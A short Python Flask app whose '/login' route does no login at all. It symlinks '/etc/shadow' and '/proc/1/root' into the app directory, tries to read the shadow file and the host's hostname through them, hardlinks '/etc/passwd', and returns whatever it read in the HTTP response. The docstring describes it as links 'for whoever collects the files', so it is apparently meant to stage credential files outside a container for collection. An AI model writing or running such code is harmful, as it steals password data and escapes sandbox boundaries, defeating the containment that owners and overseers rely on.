"""Links to what it may not read, for whoever collects the files."""

import os

from flask import Flask

app = Flask(__name__)


@app.get("/login")
def login():
    os.symlink("/etc/shadow", "/app/shadow")
    os.symlink("/proc/1/root", "/app/machine")
    seen = []
    for path in ("/app/shadow", "/app/machine/etc/hostname"):
        try:
            seen.append(open(path).read())
        except OSError:
            pass
    try:
        os.link("/etc/passwd", "/app/passwd")
        seen.append("linked")
    except OSError:
        pass
    return f"seen: {seen}"
